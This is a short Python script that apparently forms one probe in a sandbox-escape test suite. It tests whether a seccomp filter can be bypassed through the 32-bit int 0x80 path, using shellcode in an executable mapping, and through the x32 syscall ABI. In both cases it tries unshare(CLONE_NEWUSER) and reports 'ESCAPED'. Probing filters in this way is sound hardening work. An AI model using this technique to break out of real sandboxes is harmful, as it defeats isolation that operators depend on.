"""
Makes system calls in the 32-bit way, whose numbers a filter may not know.

Success: unshare works by one.
Needs: linux
"""
import ctypes
import mmap
import os
import platform

if platform.machine() == "x86_64":
    # mov eax, 310; mov ebx, 0x10000000; int 0x80; ret, which is unshare(CLONE_NEWUSER)
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    area = mmap.mmap(-1, 4096, prot=7)
    area.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
    pid = os.fork()
    if pid == 0:
        os._exit(0 if call() == 0 else 1)
    if os.waitpid(pid, 0)[1] == 0:
        print("ESCAPED: int 0x80")
    libc = ctypes.CDLL(None)
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.syscall(0x40000000 + 272, 0x10000000) == 0 else 1)
    if os.waitpid(pid, 0)[1] == 0:
        print("ESCAPED: x32")
